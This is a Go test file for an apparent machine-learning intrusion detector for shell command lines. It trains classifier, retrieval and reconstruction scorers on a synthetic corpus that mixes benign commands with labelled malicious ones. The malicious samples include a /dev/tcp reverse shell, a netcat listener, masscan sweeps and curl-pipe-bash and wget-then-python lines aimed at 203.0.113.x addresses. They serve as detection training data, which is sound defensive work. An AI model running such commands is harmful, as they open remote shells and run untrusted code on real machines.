package tuning

import (
	"fmt"
	"math/rand"
	"sync"
	"testing"

	"clmids/internal/bpe"
	"clmids/internal/metrics"
	"clmids/internal/model"
	"clmids/internal/pretrain"
)

// fixture is a small pre-trained encoder over a synthetic two-dialect
// corpus, shared by the method tests (building it costs a few seconds).
type fixture struct {
	tok      *bpe.Tokenizer
	mdl      *model.Model
	trainX   []string
	trainY   []bool
	testPos  []string
	testNeg  []string
	snapshot []byte
}

var (
	fixOnce sync.Once
	fix     *fixture
	fixErr  error
)

func benignPool(r *rand.Rand) string {
	forms := []string{
		"ls -la /srv/data",
		"cat /var/log/syslog",
		"grep -i error /var/log/app.log",
		"docker ps -a",
		"df -h",
		"ps aux",
		"cd /srv/deploy",
		"echo done",
		"tail -n 50 /var/log/nginx.log",
		"git status",
	}
	return forms[r.Intn(len(forms))]
}

func maliciousPool(r *rand.Rand) string {
	forms := []string{
		fmt.Sprintf("nc -lvnp %d", 4000+r.Intn(5000)),
		fmt.Sprintf("bash -i >& /dev/tcp/203.0.113.%d/4444 0>&1", 1+r.Intn(250)),
		fmt.Sprintf("masscan 203.0.113.%d -p 0-65535 --rate=1000 >> tmp.txt", 1+r.Intn(250)),
		fmt.Sprintf("curl http://203.0.113.%d/x.sh | bash", 1+r.Intn(250)),
	}
	return forms[r.Intn(len(forms))]
}

func buildFixture() (*fixture, error) {
	r := rand.New(rand.NewSource(11))
	var lines []string
	var labels []bool
	for i := 0; i < 260; i++ {
		lines = append(lines, benignPool(r))
		labels = append(labels, false)
	}
	for i := 0; i < 40; i++ {
		lines = append(lines, maliciousPool(r))
		labels = append(labels, true)
	}
	// Multi-line style inputs (joined with the shell separator) are part of
	// the pre-training distribution, as the multi-line classifier encodes
	// such concatenations with the same backbone.
	pretrainLines := append([]string(nil), lines...)
	for i := 0; i < 80; i++ {
		pretrainLines = append(pretrainLines, benignPool(r)+" ; "+benignPool(r))
		if i%4 == 0 {
			pretrainLines = append(pretrainLines,
				fmt.Sprintf("wget -c http://203.0.113.%d/drop -o python ; python", 1+r.Intn(250)))
			pretrainLines = append(pretrainLines,
				fmt.Sprintf("wget https://mirror.example.com/pkg%d.tar.gz ; tar -xzf pkg.tar.gz", i))
		}
	}

	tok, err := bpe.Train(pretrainLines, bpe.TrainConfig{VocabSize: 450})
	if err != nil {
		return nil, err
	}
	cfg := model.Config{
		VocabSize: tok.VocabSize(), MaxSeqLen: 32, Hidden: 32, Layers: 1,
		Heads: 2, FFN: 64, LayerNormEps: 1e-5, Dropout: 0.0,
	}
	m, err := model.NewModel(cfg, r)
	if err != nil {
		return nil, err
	}
	seqs := make([][]int, len(pretrainLines))
	for i, l := range pretrainLines {
		seqs[i] = tok.EncodeForModel(l, cfg.MaxSeqLen)
	}
	pc := pretrain.DefaultConfig()
	pc.Epochs = 2
	pc.BatchSize = 16
	pc.LR = 1e-3
	if _, err := pretrain.Run(m, seqs, pc); err != nil {
		return nil, err
	}

	f := &fixture{tok: tok, mdl: m, trainX: lines, trainY: labels}
	for i := 0; i < 20; i++ {
		f.testPos = append(f.testPos, maliciousPool(r))
		f.testNeg = append(f.testNeg, benignPool(r))
	}
	return f, nil
}

func getFixture(t *testing.T) *fixture {
	t.Helper()
	fixOnce.Do(func() { fix, fixErr = buildFixture() })
	if fixErr != nil {
		t.Fatalf("fixture: %v", fixErr)
	}
	return fix
}

// meanScore averages a scorer over lines.
func meanScore(t *testing.T, s Scorer, lines []string) float64 {
	t.Helper()
	scores, err := s.Score(lines)
	if err != nil {
		t.Fatal(err)
	}
	sum := 0.0
	for _, v := range scores {
		sum += v
	}
	return sum / float64(len(scores))
}

func TestClassifierSeparates(t *testing.T) {
	f := getFixture(t)
	cfg := DefaultClassifierConfig()
	cfg.Epochs = 8
	clf, err := TrainClassifier(f.mdl.Encoder, f.tok, f.trainX, f.trainY, cfg)
	if err != nil {
		t.Fatal(err)
	}
	pos := meanScore(t, clf, f.testPos)
	neg := meanScore(t, clf, f.testNeg)
	if pos <= neg+0.2 {
		t.Fatalf("classifier does not separate: pos %.3f vs neg %.3f", pos, neg)
	}
	// Scores are probabilities.
	scores, err := clf.Score(f.testPos)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range scores {
		if s < 0 || s > 1 {
			t.Fatalf("score %v outside [0,1]", s)
		}
	}
}

func TestClassifierSupervisionErrors(t *testing.T) {
	f := getFixture(t)
	cfg := DefaultClassifierConfig()
	if _, err := TrainClassifier(f.mdl.Encoder, f.tok, nil, nil, cfg); err == nil {
		t.Error("empty set accepted")
	}
	if _, err := TrainClassifier(f.mdl.Encoder, f.tok, f.trainX, f.trainY[:3], cfg); err == nil {
		t.Error("length mismatch accepted")
	}
	allNeg := make([]bool, len(f.trainX))
	if _, err := TrainClassifier(f.mdl.Encoder, f.tok, f.trainX, allNeg, cfg); err == nil {
		t.Error("no positives accepted")
	}
	allPos := make([]bool, len(f.trainX))
	for i := range allPos {
		allPos[i] = true
	}
	if _, err := TrainClassifier(f.mdl.Encoder, f.tok, f.trainX, allPos, cfg); err == nil {
		t.Error("no negatives accepted")
	}
}

func TestRetrievalScorerSeparates(t *testing.T) {
	f := getFixture(t)
	ret, err := TrainRetrieval(f.mdl.Encoder, f.tok, f.trainX, f.trainY, 1)
	if err != nil {
		t.Fatal(err)
	}
	pos := meanScore(t, ret, f.testPos)
	neg := meanScore(t, ret, f.testNeg)
	if pos <= neg {
		t.Fatalf("retrieval does not separate: pos %.4f vs neg %.4f", pos, neg)
	}
	if ret.Retrieval() == nil {
		t.Error("Retrieval() nil")
	}
}

func TestReconstructionTuningSeparates(t *testing.T) {
	f := getFixture(t)
	// Clone the model so other tests keep the shared pre-trained weights.
	clone := cloneModel(t, f.mdl)
	cfg := DefaultReconsConfig()
	cfg.Rounds = 3
	cfg.LR = 5e-4
	tuner, err := TrainReconstruction(clone.Encoder, f.tok, f.trainX, f.trainY, cfg)
	if err != nil {
		t.Fatal(err)
	}
	// In-box (training-distribution) attacks must show far higher
	// reconstruction error than benign lines — the paper's "very high
	// scores for all in-box intrusions".
	pos := meanScore(t, tuner, f.testPos)
	neg := meanScore(t, tuner, f.testNeg)
	if pos <= 2*neg {
		t.Fatalf("reconstruction tuning too weak: pos %.5f vs neg %.5f", pos, neg)
	}
	if tuner.PCA() == nil {
		t.Error("PCA() nil")
	}
}

func cloneModel(t *testing.T, m *model.Model) *model.Model {
	t.Helper()
	var buf writerBuffer
	if err := m.Save(&buf); err != nil {
		t.Fatal(err)
	}
	clone, err := model.Load(&buf)
	if err != nil {
		t.Fatal(err)
	}
	return clone
}

// writerBuffer is a minimal in-memory io.ReadWriter.
type writerBuffer struct {
	data []byte
	off  int
}

func (b *writerBuffer) Write(p []byte) (int, error) {
	b.data = append(b.data, p...)
	return len(p), nil
}

func (b *writerBuffer) Read(p []byte) (int, error) {
	if b.off >= len(b.data) {
		return 0, errEOF
	}
	n := copy(p, b.data[b.off:])
	b.off += n
	return n, nil
}

var errEOF = fmt.Errorf("EOF")

func TestEmbedAndCLSShapes(t *testing.T) {
	f := getFixture(t)
	lines := []string{"ls -la", "nc -lvnp 4444"}
	emb, err := EmbedLines(f.mdl.Encoder, f.tok, lines)
	if err != nil {
		t.Fatal(err)
	}
	if emb.Rows != 2 || emb.Cols != f.mdl.Encoder.Config().Hidden {
		t.Fatalf("EmbedLines %dx%d", emb.Rows, emb.Cols)
	}
	cls, err := CLSLines(f.mdl.Encoder, f.tok, lines)
	if err != nil {
		t.Fatal(err)
	}
	if cls.Rows != 2 || cls.Cols != emb.Cols {
		t.Fatalf("CLSLines %dx%d", cls.Rows, cls.Cols)
	}
	// Empty input is a 0-row matrix, aligned with the engine's streaming
	// contract (an empty window flush is not an error).
	empty, err := EmbedLines(f.mdl.Encoder, f.tok, nil)
	if err != nil {
		t.Fatalf("empty lines: %v", err)
	}
	if empty.Rows != 0 || empty.Cols != emb.Cols {
		t.Fatalf("empty EmbedLines %dx%d", empty.Rows, empty.Cols)
	}
	if empty, err = CLSLines(f.mdl.Encoder, f.tok, nil); err != nil || empty.Rows != 0 {
		t.Fatalf("empty CLSLines: %v (%d rows)", err, empty.Rows)
	}
}

func TestMethodsProduceUsableMetrics(t *testing.T) {
	// End-to-end smoke: classification scores must plug into the metrics
	// protocol and beat chance on ROC.
	f := getFixture(t)
	cfg := DefaultClassifierConfig()
	cfg.Epochs = 6
	clf, err := TrainClassifier(f.mdl.Encoder, f.tok, f.trainX, f.trainY, cfg)
	if err != nil {
		t.Fatal(err)
	}
	var items []metrics.Scored
	for i, line := range append(append([]string{}, f.testPos...), f.testNeg...) {
		s, err := clf.Score([]string{line})
		if err != nil {
			t.Fatal(err)
		}
		items = append(items, metrics.Scored{
			Line:          fmt.Sprintf("%d-%s", i, line),
			Score:         s[0],
			TrueIntrusion: i < len(f.testPos),
			IDSFlagged:    i < 5, // pretend the first few are in-box
		})
	}
	auc, err := metrics.ROCAUC(items)
	if err != nil {
		t.Fatal(err)
	}
	if auc < 0.8 {
		t.Fatalf("classifier AUC %.3f too low", auc)
	}
}
